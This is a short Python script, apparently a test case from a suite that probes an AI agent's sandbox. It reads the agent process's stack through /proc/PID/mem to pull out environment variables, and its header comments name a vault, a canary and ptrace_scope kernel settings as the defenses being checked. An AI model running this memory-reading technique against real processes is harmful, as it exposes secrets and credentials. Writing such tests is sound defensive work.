# says: Reads the agent's memory where its environment lies.
# stopped by: vault
# proof: canary
# source: /proc/PID/mem
# kernel: kernel.yama.ptrace_scope=2 kernel.yama.ptrace_scope=3
import os

from attack import stack_of

start, end = stack_of(os.environ["AGENT_PID"])
with open(f"/proc/{os.environ['AGENT_PID']}/mem", "rb", 0) as memory:
    print(os.pread(memory.fileno(), end - start, start).decode(errors="replace").replace("\0", "\n")[-20000:])
